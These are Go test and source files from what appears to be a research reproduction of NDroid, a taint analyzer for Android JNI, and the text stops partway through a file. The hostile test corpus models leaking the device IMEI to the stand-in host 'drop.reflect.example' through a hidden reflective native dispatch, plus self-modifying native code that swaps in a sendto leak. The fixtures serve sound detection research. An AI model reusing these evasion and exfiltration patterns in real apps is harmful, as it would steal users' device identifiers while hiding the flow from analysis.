package apps_test

import (
	"os"
	"strings"
	"testing"

	"repro/internal/apps"
	"repro/internal/cas"
	"repro/internal/core"
	"repro/internal/fault"
	"repro/internal/surface"
)

// appOutcome is the comparison unit for injection parity: the final verdict
// plus the final attempt's flow log, byte for byte.
type appOutcome struct {
	verdict core.Verdict
	log     string
}

// studyOutcomes sweeps the full corpus and captures each app's outcome.
func studyOutcomes() map[string]appOutcome {
	out := map[string]appOutcome{}
	rep := apps.RunStudy(apps.StudyOptions{Budget: testBudget, FlowLog: true})
	for _, row := range rep.Rows {
		out[row.App.Name] = appOutcome{
			verdict: row.Report.Verdict(),
			log:     strings.Join(row.Report.Final.Result.LogLines, "\n"),
		}
	}
	return out
}

// chainSawInjection reports whether any attempt in the chain carried the
// injected fault (Site is only set on injected faults).
func chainSawInjection(r core.AppReport, site string) bool {
	for _, att := range r.Chain {
		if att.Result.Fault != nil && att.Result.Fault.Site == site {
			return true
		}
	}
	return false
}

// TestInjectionEverySiteContained arms each registered site in turn and
// analyzes case1 (whose NDroid run passes every site: JNI bridge, Dalvik
// invoke, heap allocation, native dispatch, the tracer, and the libc
// models). The injected fault must fire exactly once, be recorded in the
// chain, and resolve per the degradation policy: native-side (arm/core)
// faults degrade and the app then completes one rung down; dvm-layer faults
// are final.
func TestInjectionEverySiteContained(t *testing.T) {
	defer fault.Reset()
	app, ok := apps.ByName("case1")
	if !ok {
		t.Fatal("case1 missing")
	}
	sites := fault.Sites()
	if len(sites) < 6 {
		t.Fatalf("only %d injection sites registered: %v", len(sites), sites)
	}
	for _, site := range sites {
		site := site
		t.Run(site, func(t *testing.T) {
			fault.Reset()
			aOpts := core.AnalyzeOptions{Budget: testBudget, FlowLog: true}
			spec := app.Spec()
			switch site {
			case core.SiteSummaryValidate:
				// The validation site only exists on the summaries path, and
				// only for an app whose native half is summarizable.
				sapp, ok := apps.ByName("summix")
				if !ok {
					t.Fatal("summix missing")
				}
				spec = sapp.Spec()
				aOpts.Summaries = core.SummaryValidated
			case core.SiteSnapshotRestore:
				// The restore site only exists on the fork-server path.
				runner, err := core.NewRunner()
				if err != nil {
					t.Fatal(err)
				}
				aOpts.Runner = runner
			case cas.SiteLoad:
				// The cache-load site only exists on the artifact-cached
				// path: the first native-lib install probes the store.
				store, err := cas.Open(t.TempDir())
				if err != nil {
					t.Fatal(err)
				}
				runner, err := core.NewCachedRunner(store)
				if err != nil {
					t.Fatal(err)
				}
				aOpts.Runner = runner
			}
			if err := fault.Arm(site, fault.UnmappedAccess); err != nil {
				t.Fatal(err)
			}
			r := core.AnalyzeApp(spec, aOpts)
			if n := fault.Fired(site); n != 1 {
				t.Fatalf("site fired %d times, want exactly 1 (chain %s)", n, r.ChainString())
			}
			if site == cas.SiteLoad {
				// Cache corruption is absorbed: the poisoned entry is evicted
				// and recomputed, the run's verdict and chain are untouched,
				// and the only trace is a diagnostic counter.
				if chainSawInjection(r, site) {
					t.Fatalf("absorbed cache fault surfaced in chain %s", r.ChainString())
				}
				if r.Verdict() != core.VerdictLeak || r.Degraded {
					t.Errorf("chain %s: cache fault must be invisible (want undegraded leak)", r.ChainString())
				}
				if aOpts.Runner.Stats.CacheFaults != 1 {
					t.Errorf("CacheFaults = %d, want 1", aOpts.Runner.Stats.CacheFaults)
				}
				return
			}
			if site == surface.SiteOverflow {
				// Surface-budget exhaustion is absorbed degradation: the map
				// truncates (typed, verdict-visible flag) but the analysis
				// itself — verdict, chain, flow log — is untouched.
				if chainSawInjection(r, site) {
					t.Fatalf("absorbed surface overflow surfaced in chain %s", r.ChainString())
				}
				if r.Verdict() != core.VerdictLeak || r.Degraded {
					t.Errorf("chain %s: surface overflow must be invisible (want undegraded leak)", r.ChainString())
				}
				m := r.Final.Result.Surface
				if m == nil || !m.Truncated {
					t.Errorf("surface map = %+v, want truncated map", m)
				}
				return
			}
			if site == core.SiteFusedDeopt {
				// Fused-deopt corruption is absorbed, not surfaced: the
				// crossing falls back to the unfused bridge and the run
				// completes as if nothing happened.
				if chainSawInjection(r, site) {
					t.Fatalf("absorbed deopt surfaced as a fault in chain %s", r.ChainString())
				}
				if r.Verdict() != core.VerdictLeak || r.Degraded {
					t.Errorf("chain %s: deopt must be invisible (want undegraded leak)", r.ChainString())
				}
				return
			}
			if site == core.SiteSummaryValidate {
				// An injected validation fault is absorbed as a rejection:
				// the candidate summary is not trusted, the function demotes
				// to full tracing, and the run's verdict, chain, and flow
				// log are untouched. The only trace is the typed rejection
				// record (and zero summary applications).
				if chainSawInjection(r, site) {
					t.Fatalf("absorbed validation fault surfaced in chain %s", r.ChainString())
				}
				if r.Verdict() != core.VerdictLeak || r.Degraded {
					t.Errorf("chain %s: validation fault must be invisible (want undegraded leak)", r.ChainString())
				}
				res := r.Final.Result
				if len(res.SummaryRejections) != 1 || res.SummaryApplied != 0 {
					t.Errorf("rejections=%v applied=%d, want exactly one rejection and no applications",
						res.SummaryRejections, res.SummaryApplied)
				}
				return
			}
			if !chainSawInjection(r, site) {
				t.Fatalf("injected fault not recorded in chain %s", r.ChainString())
			}
			if site == core.SiteSnapshotRestore {
				// Injected restore corruption surfaces as a typed InternalError
				// (whatever kind was armed) and takes the same-mode
				// fresh-System retry, not degradation.
				f := r.Chain[0].Result.Fault
				if f == nil || f.Kind != fault.InternalError {
					t.Fatalf("chain %s: want InternalError on first attempt, got %v", r.ChainString(), f)
				}
				if r.Verdict() != core.VerdictLeak || r.Degraded {
					t.Errorf("chain %s: want same-mode retry ending in leak", r.ChainString())
				}
				return
			}
			layer, _ := fault.SiteLayer(site)
			switch layer {
			case "arm", "core":
				// One-shot injection consumed on the NDroid attempt; the
				// degraded retry runs clean. case1 is the one leak TaintDroid
				// catches, so the final verdict is still a leak.
				if r.Verdict() != core.VerdictLeak || !r.Degraded {
					t.Errorf("chain %s: want degradation ending in leak", r.ChainString())
				}
			default:
				if r.Verdict() != core.VerdictFault {
					t.Errorf("chain %s: dvm-layer injection should be final", r.ChainString())
				}
			}
		})
	}
}

// TestInjectionParity is the isolation proof: with injection armed at a
// site, the fault is absorbed by the first app that passes it, and (a) every
// other app in the same sweep produces a byte-identical flow log and verdict
// versus a no-injection baseline, and (b) a fresh no-injection sweep
// afterwards is byte-identical across all apps — nothing leaks out of a
// discarded faulting System.
//
// The default run covers every registered site with one fault kind; setting
// NDROID_FAULT_INJECT=all (the CI fault-inject job) crosses every site with
// a representative kind set, including kinds that exercise the timeout and
// internal-retry paths.
func TestInjectionParity(t *testing.T) {
	defer fault.Reset()
	fault.Reset()
	base := studyOutcomes()

	kinds := []fault.Kind{fault.UnmappedAccess}
	if os.Getenv("NDROID_FAULT_INJECT") != "" {
		kinds = []fault.Kind{fault.UnmappedAccess, fault.BudgetExceeded, fault.InternalError}
	}
	for _, site := range fault.Sites() {
		for _, k := range kinds {
			site, k := site, k
			t.Run(site+"/"+k.String(), func(t *testing.T) {
				fault.Reset()
				if err := fault.Arm(site, k); err != nil {
					t.Fatal(err)
				}
				// The restore site only exists on the fork-server path, so its
				// sweep runs with Snapshot on — which also checks that
				// snapshot-served logs match the fresh-System baseline. The
				// cache-load site likewise only exists on the artifact-cached
				// path, so its sweep runs against a fresh store.
				sOpts := apps.StudyOptions{Budget: testBudget, FlowLog: true,
					Snapshot: site == core.SiteSnapshotRestore}
				if site == core.SiteSummaryValidate {
					// The validation site only exists on the summaries path;
					// the sweep's logs must still match the no-summaries
					// baseline byte for byte — both for the app that absorbs
					// the injected fault (demoted to full tracing) and for
					// every app running under accepted summaries.
					sOpts.Summaries = core.SummaryValidated
				}
				if site == cas.SiteLoad {
					store, err := cas.Open(t.TempDir())
					if err != nil {
						t.Fatal(err)
					}
					sOpts.Cache = store
				}
				rep := apps.RunStudy(sOpts)
				if n := fault.Fired(site); n != 1 {
					t.Fatalf("site fired %d times across the sweep, want 1", n)
				}
				// The fused-deopt site absorbs its injection (the crossing
				// reruns unfused), so no app's chain records it — and the app
				// that consumed it must ALSO match the baseline byte for byte,
				// which is the deopt-parity proof.
				wantAbsorbed := 1
				if site == core.SiteFusedDeopt || site == cas.SiteLoad ||
					site == surface.SiteOverflow || site == core.SiteSummaryValidate {
					// Absorbed sites leave no trace in any chain: the deopt
					// reruns unfused, the cache fault evicts and recomputes,
					// the surface overflow truncates only the map.
					wantAbsorbed = 0
				}
				absorbed := 0
				for _, row := range rep.Rows {
					if chainSawInjection(row.Report, site) {
						absorbed++
						continue
					}
					want, got := base[row.App.Name], appOutcome{
						verdict: row.Report.Verdict(),
						log:     strings.Join(row.Report.Final.Result.LogLines, "\n"),
					}
					if got.verdict != want.verdict {
						t.Errorf("%s: verdict %v, baseline %v", row.App.Name, got.verdict, want.verdict)
					}
					if got.log != want.log {
						t.Errorf("%s: flow log diverged from baseline after injection elsewhere", row.App.Name)
					}
				}
				if absorbed != wantAbsorbed {
					t.Errorf("injected fault absorbed by %d apps, want %d", absorbed, wantAbsorbed)
				}

				// (b) fresh sweep with nothing armed: byte-identical for
				// every app, including the one that absorbed the fault.
				fault.DisarmAll()
				again := studyOutcomes()
				for name, want := range base {
					got := again[name]
					if got.verdict != want.verdict || got.log != want.log {
						t.Errorf("%s: post-injection fresh run differs from baseline", name)
					}
				}
			})
		}
	}
}
