package apps

import (
	"fmt"
	"math/rand"
	"sort"
	"strings"

	"repro/internal/core"
)

// Driver is the monkeyrunner stand-in (§VI: "we first used one simple tool
// (i.e., Monkeyrunner) to generate random input to drive those apps"): it
// discovers an app's public zero-argument entry points and invokes a random
// subset. Like the original, it is a coverage-limited random exerciser — the
// §VII limitation that it "cannot enumerate all possible paths" holds here
// too, and a test demonstrates it.
type Driver struct {
	Rng *rand.Rand
	// Invocations per run.
	Events int
}

// NewDriver seeds a driver.
func NewDriver(seed int64, events int) *Driver {
	return &Driver{Rng: rand.New(rand.NewSource(seed)), Events: events}
}

// entryPoints lists invokable static ()V methods of non-framework classes.
func entryPoints(sys *core.System) []struct{ Class, Method string } {
	var out []struct{ Class, Method string }
	for _, name := range sys.VM.Classes() {
		if strings.HasPrefix(name, "Landroid/") || strings.HasPrefix(name, "Ljava/") {
			continue
		}
		cls, _ := sys.VM.Class(name)
		for _, m := range cls.Methods {
			if m.Shorty == "V" && m.IsStatic() && !m.IsNative() && m.Name != "<clinit>" {
				out = append(out, struct{ Class, Method string }{name, m.Name})
			}
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Class != out[j].Class {
			return out[i].Class < out[j].Class
		}
		return out[i].Method < out[j].Method
	})
	return out
}

// Exercise drives random entry points; it returns the distinct methods hit.
func (d *Driver) Exercise(sys *core.System) ([]string, error) {
	eps := entryPoints(sys)
	if len(eps) == 0 {
		return nil, fmt.Errorf("apps: no entry points to drive")
	}
	hit := map[string]bool{}
	for i := 0; i < d.Events; i++ {
		ep := eps[d.Rng.Intn(len(eps))]
		if _, _, _, err := sys.VM.InvokeByName(ep.Class, ep.Method, nil, nil); err != nil {
			return nil, fmt.Errorf("apps: driving %s.%s: %w", ep.Class, ep.Method, err)
		}
		hit[ep.Class+"."+ep.Method] = true
	}
	var out []string
	for k := range hit {
		out = append(out, k)
	}
	sort.Strings(out)
	return out, nil
}
