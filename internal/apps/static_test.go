package apps_test

import (
	"strings"
	"testing"

	"repro/internal/apps"
	"repro/internal/arm"
	"repro/internal/core"
	"repro/internal/fault"
	"repro/internal/static"
)

var allModes = []core.Mode{
	core.ModeVanilla, core.ModeTaintDroid, core.ModeNDroid, core.ModeDroidScope,
}

// TestStaticPinFlowLogParity is the headline soundness check for the pin
// level: for every corpus app and every mode, running with pins applied must
// produce a byte-identical flow log to running without the pre-analysis.
// Pins may only change which translation variant executes, never what the
// taint engine observes.
func TestStaticPinFlowLogParity(t *testing.T) {
	for _, app := range apps.AllApps() {
		for _, mode := range allModes {
			app, mode := app, mode
			t.Run(app.Name+"/"+mode.String(), func(t *testing.T) {
				base := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
					Mode: mode, Budget: testBudget, FlowLog: true,
				})
				pinned := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
					Mode: mode, Budget: testBudget, FlowLog: true, Static: static.PinLevel,
				})
				if base.Verdict() != pinned.Verdict() {
					t.Fatalf("verdict changed under pins: %v vs %v", base.Verdict(), pinned.Verdict())
				}
				b := strings.Join(base.Final.Result.LogLines, "\n")
				p := strings.Join(pinned.Final.Result.LogLines, "\n")
				if b != p {
					t.Fatalf("flow log changed under pins:\n--- off ---\n%s\n--- pin ---\n%s", b, p)
				}
			})
		}
	}
}

// TestStaticCrossValidation asserts the pre-analysis is a sound
// over-approximation of the dynamic runs: every flow-log event of every
// corpus app, in every mode, must lie inside the static reach sets.
func TestStaticCrossValidation(t *testing.T) {
	for _, app := range apps.AllApps() {
		for _, mode := range allModes {
			app, mode := app, mode
			t.Run(app.Name+"/"+mode.String(), func(t *testing.T) {
				rep := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
					Mode: mode, Budget: testBudget, FlowLog: true, Static: static.PinLevel,
				})
				for _, att := range rep.Chain {
					if len(att.Result.StaticViolations) != 0 {
						t.Fatalf("mode %s attempt: cross-validation violations:\n%s",
							att.Mode, strings.Join(att.Result.StaticViolations, "\n"))
					}
				}
			})
		}
	}
}

// TestStaticPinsEveryBenignApp asserts the precision floor: on every benign
// app the pre-analysis proves at least one method or native page pinnable.
func TestStaticPinsEveryBenignApp(t *testing.T) {
	for _, app := range apps.Registry() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			sys, err := core.NewSystem()
			if err != nil {
				t.Fatal(err)
			}
			if err := app.Install(sys); err != nil {
				t.Fatal(err)
			}
			r := static.Analyze(sys.VM, app.EntryClass, app.EntryMethod)
			if r.PinnedMethods == 0 && r.PinnedPages == 0 {
				t.Fatalf("nothing pinned: %s", r.Summary())
			}
			// The checksum helper is pure and called argument-free: it must
			// be provably pinnable in every benign app.
			if r.PinnedMethods < 1 {
				t.Fatalf("checksum helper not pinned: %s", r.Summary())
			}
		})
	}
}

// TestStaticPinnedVariantExecutes proves pins actually change dispatch: a
// benign-app NDroid run under the pin level must retire at least one pinned
// clean Java frame, and on a fully taint-free app at least one pinned bare
// ARM block.
func TestStaticPinnedVariantExecutes(t *testing.T) {
	run := func(name string, level static.Level) (uint64, uint64) {
		app, ok := apps.ByName(name)
		if !ok {
			t.Fatalf("%s missing", name)
		}
		sys, err := core.NewSystem()
		if err != nil {
			t.Fatal(err)
		}
		if err := app.Install(sys); err != nil {
			t.Fatal(err)
		}
		a := core.NewAnalyzer(sys, core.ModeNDroid)
		a.Budget = testBudget
		if level != static.Off {
			r := static.Analyze(sys.VM, app.EntryClass, app.EntryMethod)
			r.Apply(sys.VM)
		}
		res := a.Run(app.EntryClass, app.EntryMethod, nil, nil)
		if res.Verdict != core.VerdictClean && res.Verdict != core.VerdictLeak {
			t.Fatalf("%s run failed: %v (%v)", name, res.Verdict, res.Fault)
		}
		return sys.VM.JavaPinnedFrames, sys.CPU.GatePinnedBlocks
	}

	// case1 reaches sources, so only the checksum helper pins; its frame must
	// execute the pinned clean variant.
	frames, _ := run("case1", static.PinLevel)
	if frames == 0 {
		t.Error("case1: no pinned clean frames executed under pin level")
	}
	frames, _ = run("case1", static.Off)
	if frames != 0 {
		t.Error("case1: pinned frames executed with the pre-analysis off")
	}

	// benign has no reachable source: the whole app is taint-free, so native
	// pages pin and bare blocks must run without gate probes.
	_, blocks := run("benign", static.PinLevel)
	if blocks == 0 {
		t.Error("benign: no pinned bare blocks executed under pin level")
	}
}

// TestStaticPinReseedOnDegradation is the regression test for pin
// invalidation under the fault-containment ladder: pins are keyed against
// one attempt's System (method pointers, CPU page sets), so a degradation
// retry's fresh System must be re-analyzed and re-seeded, not inherit stale
// pins. An injected arm-layer fault forces ndroid -> taintdroid; both
// attempts must carry an equally sized, freshly applied pin set.
func TestStaticPinReseedOnDegradation(t *testing.T) {
	defer fault.Reset()
	fault.Reset()
	if err := fault.Arm(arm.SiteDispatch, fault.UnmappedAccess); err != nil {
		t.Fatal(err)
	}
	rep := core.AnalyzeApp(apps.Case1App().Spec(), core.AnalyzeOptions{
		Budget: testBudget, FlowLog: true, Static: static.PinLevel,
	})
	if !rep.Degraded || len(rep.Chain) < 2 {
		t.Fatalf("expected a degradation chain, got %s", rep.ChainString())
	}
	for i, att := range rep.Chain {
		if att.Result.Static == nil {
			t.Fatalf("attempt %d (%s) has no static result: pins not re-seeded", i, att.Mode)
		}
		if att.Result.Static.PinnedMethods == 0 {
			t.Fatalf("attempt %d (%s) pinned nothing: %s", i, att.Mode, att.Result.Static.Summary())
		}
		if want := rep.Chain[0].Result.Static.PinnedMethods; att.Result.Static.PinnedMethods != want {
			t.Fatalf("attempt %d pin count %d != first attempt %d (analysis not deterministic per System)",
				i, att.Result.Static.PinnedMethods, want)
		}
	}
}

// TestStaticLintCorpus locks down the lint verdict over the corpus: the
// deliberate Get-without-Release in case1's scramble is flagged, and the
// properly paired fixtures stay clean.
func TestStaticLintCorpus(t *testing.T) {
	for _, app := range apps.AllApps() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			sys, err := core.NewSystem()
			if err != nil {
				t.Fatal(err)
			}
			if err := app.Install(sys); err != nil {
				t.Fatal(err)
			}
			r := static.Analyze(sys.VM, app.EntryClass, app.EntryMethod)
			for _, f := range r.Findings {
				if f.Layer != "static" || f.Kind != fault.JNIMisuse {
					t.Fatalf("finding with wrong typing: %+v", f)
				}
			}
			if app.Name == "case1" {
				// scramble: GetStringUTFChars with no release on any path.
				found := false
				for _, f := range r.Findings {
					if strings.Contains(f.Detail, "unreleased") {
						found = true
					}
				}
				if !found {
					t.Fatalf("case1's unreleased handle not flagged; findings: %v", r.Findings)
				}
			}
		})
	}
}
