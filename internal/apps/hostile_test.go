package apps_test

import (
	"testing"

	"repro/internal/apps"
	"repro/internal/core"
	"repro/internal/fault"
)

// testBudget keeps watchdog tests fast while staying far above what any
// benign app needs.
const testBudget = 1 << 21

// TestHostileVerdicts: each hostile app lands on its expected verdict with
// the fault typed correctly, the analysis process survives, and the NDroid
// attempt retains a non-empty partial flow log (the evidence gathered before
// the app blew up).
func TestHostileVerdicts(t *testing.T) {
	for _, app := range apps.HostileRegistry() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			r := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{Budget: testBudget, FlowLog: true})
			if got, want := r.Verdict(), app.ExpectedVerdict(); got != want {
				t.Fatalf("verdict = %v, want %v (chain %s)", got, want, r.ChainString())
			}
			// Crash-the-analyzer apps must carry a typed fault; the surface
			// corpus (flood, reflect, SMC, pin-swap) completes with a clean
			// or leak verdict and no fault at all.
			switch r.Verdict() {
			case core.VerdictFault, core.VerdictTimeout:
				if r.Final.Result.Fault == nil {
					t.Fatalf("no fault recorded for %v verdict", r.Verdict())
				}
			default:
				if r.Final.Result.Fault != nil {
					t.Fatalf("unexpected fault %v for %v verdict", r.Final.Result.Fault, r.Verdict())
				}
			}
			// The first attempt always runs under NDroid, whose JNI-entry hook
			// logs every native call before it executes — so even an app that
			// never returns leaves a trace.
			first := r.Chain[0]
			if first.Mode != core.ModeNDroid {
				t.Fatalf("first attempt ran under %v, want ndroid", first.Mode)
			}
			if len(first.Result.LogLines) == 0 {
				t.Error("NDroid attempt has an empty partial flow log")
			}
		})
	}
}

// TestHostileSpinTimesOut pins the watchdog details: deterministic
// instruction budget, BudgetExceeded kind, no degradation (a lower mode
// would spin just the same).
func TestHostileSpinTimesOut(t *testing.T) {
	r := core.AnalyzeApp(apps.HostileSpinApp().Spec(), core.AnalyzeOptions{Budget: testBudget})
	if r.Verdict() != core.VerdictTimeout {
		t.Fatalf("verdict = %v, want timeout", r.Verdict())
	}
	f := r.Final.Result.Fault
	if f.Kind != fault.BudgetExceeded {
		t.Errorf("fault kind = %v, want budget-exceeded", f.Kind)
	}
	if len(r.Chain) != 1 || r.Degraded {
		t.Errorf("timeout should not degrade; chain = %s", r.ChainString())
	}
	if r.Final.Result.NativeInsns < testBudget {
		t.Errorf("native insns = %d, want >= budget %d", r.Final.Result.NativeInsns, testBudget)
	}
}

// TestHostileWildWalksTheLadder: an arm-layer fault degrades NDroid ->
// TaintDroid -> vanilla; the wild store faults identically at every rung, so
// the chain records all three.
func TestHostileWildWalksTheLadder(t *testing.T) {
	r := core.AnalyzeApp(apps.HostileWildApp().Spec(), core.AnalyzeOptions{Budget: testBudget, FlowLog: true})
	if r.Verdict() != core.VerdictFault {
		t.Fatalf("verdict = %v, want fault", r.Verdict())
	}
	wantModes := []core.Mode{core.ModeNDroid, core.ModeTaintDroid, core.ModeVanilla}
	if len(r.Chain) != len(wantModes) {
		t.Fatalf("chain = %s, want %d attempts", r.ChainString(), len(wantModes))
	}
	for i, att := range r.Chain {
		if att.Mode != wantModes[i] {
			t.Errorf("attempt %d mode = %v, want %v", i, att.Mode, wantModes[i])
		}
		f := att.Result.Fault
		if f == nil || f.Kind != fault.UnmappedAccess || f.Layer != "arm" {
			t.Errorf("attempt %d fault = %v, want arm unmapped-access", i, f)
		}
	}
	if !r.Degraded {
		t.Error("report not marked degraded")
	}
}

// TestHostileDexFaultsWithoutDegrading: malformed bytecode is a property of
// the guest program; the dvm-layer fault is final and typed MalformedDex.
func TestHostileDexFaultsWithoutDegrading(t *testing.T) {
	r := core.AnalyzeApp(apps.HostileDexApp().Spec(), core.AnalyzeOptions{Budget: testBudget, FlowLog: true})
	f := r.Final.Result.Fault
	if r.Verdict() != core.VerdictFault || f == nil {
		t.Fatalf("verdict = %v (fault %v), want fault", r.Verdict(), f)
	}
	if f.Kind != fault.MalformedDex || f.Layer != "dvm" {
		t.Errorf("fault = %v, want dvm malformed-dex", f)
	}
	if len(r.Chain) != 1 || r.Degraded {
		t.Errorf("dvm fault should not degrade; chain = %s", r.ChainString())
	}
}

// TestStudySurvivesHostileCorpus: one sweep over benign + hostile apps
// completes with every verdict as expected and the statistics consistent.
func TestStudySurvivesHostileCorpus(t *testing.T) {
	rep := apps.RunStudy(apps.StudyOptions{Budget: testBudget, FlowLog: true})
	if len(rep.Rows) != len(apps.AllApps()) {
		t.Fatalf("rows = %d, want %d", len(rep.Rows), len(apps.AllApps()))
	}
	for _, row := range rep.Rows {
		if got, want := row.Report.Verdict(), row.App.ExpectedVerdict(); got != want {
			t.Errorf("%s: verdict = %v, want %v (chain %s)",
				row.App.Name, got, want, row.Report.ChainString())
		}
	}
	if rep.Faults != 2 || rep.Timeouts != 1 {
		t.Errorf("faults=%d timeouts=%d, want 2/1", rep.Faults, rep.Timeouts)
	}
	if rep.Degraded != 1 {
		t.Errorf("degraded=%d, want 1 (hostile-wild)", rep.Degraded)
	}
	if rep.Leaks == 0 || rep.Clean == 0 {
		t.Errorf("benign corpus outcomes missing: leaks=%d clean=%d", rep.Leaks, rep.Clean)
	}
	if rep.Attempts < len(rep.Rows)+2 {
		t.Errorf("attempts=%d does not include hostile-wild's degradation steps", rep.Attempts)
	}
}
