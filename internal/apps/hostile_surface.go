package apps

// The hostile-JNI surface corpus: four apps that attack the *observability*
// of the JNI boundary rather than the analyzer's execution machinery. Each
// one stresses a distinct part of the surface observer (internal/surface):
// a RASP-style flood that would blow an unthrottled event stream, a
// reflection-dispatch leaker whose call target never appears in the dex call
// graph, a self-modifying library that rewrites live native code before
// re-registering its hooks, and a mid-run RegisterNatives swap that flips a
// statically clean-pinned binding into a leaking one.

import (
	"repro/internal/core"
	"repro/internal/dex"
	"repro/internal/taint"
)

// raspIterations is the RASP check-loop trip count. With three natives per
// iteration the app makes 3*8192 = 24576 JNI crossings; under throttling the
// observer attempts only 3 registrations + 3*14 count buckets = 45 events —
// enough to exceed surface.DefaultEventBudget (the map truncates, typed and
// flagged) while the unthrottled baseline attempts all ~24k.
const raspIterations = 8192

// HostileRaspApp models a runtime-application-self-protection loop: three
// trivial integrity-check natives (root, debugger, hook detection) hammered
// thousands of times from Java. It leaks nothing — the attack is on the
// observer. A naive per-call event stream costs O(calls); the throttled
// observer costs O(unique boundaries * log calls) and reports truncation
// honestly when even that exceeds the event budget.
func HostileRaspApp() *App {
	const cls = "Lcom/hostile/rasp/Main;"
	return &App{
		Name:          "hostile-rasp",
		Desc:          "hostile: RASP integrity loop floods three JNI boundaries (observer must stay bounded)",
		Case:          "hostile",
		EntryClass:    cls,
		EntryMethod:   "run",
		Hostile:       true,
		ExpectVerdict: core.VerdictClean,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("librasp.so", `
; jint checkRoot(JNIEnv*, jclass) — always "clean"
Java_checkRoot:
	PUSH {R4, LR}
	MOV R0, #0
	POP {R4, PC}

; jint checkDebug(JNIEnv*, jclass)
Java_checkDebug:
	PUSH {R4, LR}
	MOV R0, #0
	POP {R4, PC}

; jint checkHooks(JNIEnv*, jclass)
Java_checkHooks:
	PUSH {R4, LR}
	MOV R0, #0
	POP {R4, PC}
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("checkRoot", "I", dex.AccStatic, 0)
			cb.NativeMethod("checkDebug", "I", dex.AccStatic, 0)
			cb.NativeMethod("checkHooks", "I", dex.AccStatic, 0)
			cb.Method("run", "V", dex.AccStatic, 3).
				Const(1, raspIterations).
				Label("loop").
				IfZ(1, dex.Le, "done").
				InvokeStatic(cls, "checkRoot", "I").
				MoveResult(2).
				InvokeStatic(cls, "checkDebug", "I").
				MoveResult(2).
				InvokeStatic(cls, "checkHooks", "I").
				MoveResult(2).
				BinLit(dex.Sub, 1, 1, 1).
				Goto("loop").
				Label("done").
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			if err := sys.VM.BindNative(cls, "checkRoot", prog, "Java_checkRoot"); err != nil {
				return err
			}
			if err := sys.VM.BindNative(cls, "checkDebug", prog, "Java_checkDebug"); err != nil {
				return err
			}
			return sys.VM.BindNative(cls, "checkHooks", prog, "Java_checkHooks")
		},
	}
}

// HostileReflectApp leaks through a reflection-style dispatch: Java hands the
// IMEI to an innocuous-looking native "dispatch", which resolves a hidden
// Java method by name at runtime (GetStaticMethodID + CallStaticVoidMethod)
// and invokes it with the tainted string. The exfil method never appears in
// the dex call graph — only the boundary observer's reflect counter and the
// dynamic taint flow see it.
func HostileReflectApp() *App {
	const cls = "Lcom/hostile/reflect/Main;"
	return &App{
		Name:        "hostile-reflect",
		Desc:        "hostile: native resolves hidden Java sink by name and dispatches the taint reflectively",
		Case:        "3",
		EntryClass:  cls,
		EntryMethod: "run",
		Hostile:     true,
		ExpectTag:   taint.IMEI,
		ExpectSink:  "Network.send",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libreflect.so", `
; void dispatch(JNIEnv*, jclass, jstring secret)
Java_dispatch:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	MOV R6, R2          ; tainted jstring
	; cls = FindClass("com/hostile/reflect/Main")
	LDR R1, =cls_name
	BL FindClass
	MOV R5, R0
	; mid = GetStaticMethodID(env, cls, "exfil", "(Ljava/lang/String;)V")
	MOV R0, R4
	MOV R1, R5
	LDR R2, =mname
	LDR R3, =msig
	BL GetStaticMethodID
	MOV R7, R0
	; CallStaticVoidMethod(env, cls, mid, secret)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R7
	MOV R3, R6
	BL CallStaticVoidMethod
	POP {R4, R5, R6, R7, PC}

cls_name:
	.asciz "com/hostile/reflect/Main"
mname:
	.asciz "exfil"
msig:
	.asciz "(Ljava/lang/String;)V"
	.align 4
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("dispatch", "VL", dex.AccStatic, 0)
			// The hidden sink: nothing in the dex ever invokes it directly.
			cb.Method("exfil", "VL", dex.AccStatic, 1).
				ConstString(0, "drop.reflect.example").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 0, 1).
				ReturnVoid().
				Done()
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 2).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeStatic(cls, "dispatch", "VL", 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "dispatch", prog, "Java_dispatch")
		},
	}
}

// HostileSmcApp is the self-modifying library: `process` starts bound to a
// benign identity implementation that Java warms up until it is decoded and
// translated. A later native call then (1) stores into the live code page of
// the benign implementation — a semantics-preserving self-modification that
// still forces translation invalidation and fires the observer's code-write
// counter — and (2) re-registers `process` to a leaking implementation. The
// surface map must record both the code write and the dynamic
// re-registration, and the very next crossing must leak.
func HostileSmcApp() *App {
	const cls = "Lcom/hostile/smc/Main;"
	return &App{
		Name:        "hostile-smc",
		Desc:        "hostile: SMC write into live native code, then RegisterNatives re-hooks to a leaking impl",
		Case:        "2",
		EntryClass:  cls,
		EntryMethod: "run",
		Hostile:     true,
		ExpectTag:   taint.IMEI,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libsmc.so", `
; jstring process(JNIEnv*, jclass, jstring) — impl A: identity
Java_processA:
	PUSH {R4, LR}
	MOV R0, R2
	POP {R4, PC}

; jstring process(JNIEnv*, jclass, jstring) — impl B: leak via sendto
Java_processB:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	MOV R7, R2          ; jstring
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	BL strlen
	MOV R6, R0
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	MOV R1, R5
	MOV R2, R6
	LDR R3, =host
	BL sendto
	MOV R0, R7
	POP {R4, R5, R6, R7, PC}

